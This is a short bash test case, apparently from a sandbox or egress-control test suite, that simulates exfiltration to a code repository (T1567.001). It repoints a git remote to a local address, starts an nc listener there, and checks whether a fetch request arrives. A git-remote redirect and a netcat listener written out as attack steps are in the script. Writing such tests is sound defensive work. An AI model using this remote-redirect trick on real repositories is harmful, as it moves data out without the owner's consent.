# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1567.001
about="the remote's address is one in the network"
attack() {
	HOME=$work/home git -C $work/clone config remote.origin.url git://127.0.0.1:9418/x; : >/dev/null
	tell fetch
}
effect() { [ -e "$marker" ]; }
before() { nc -l 127.0.0.1 9418 >"$state/heard" 2>/dev/null </dev/null & }
effect() { grep -qa upload-pack "$state/heard"; }
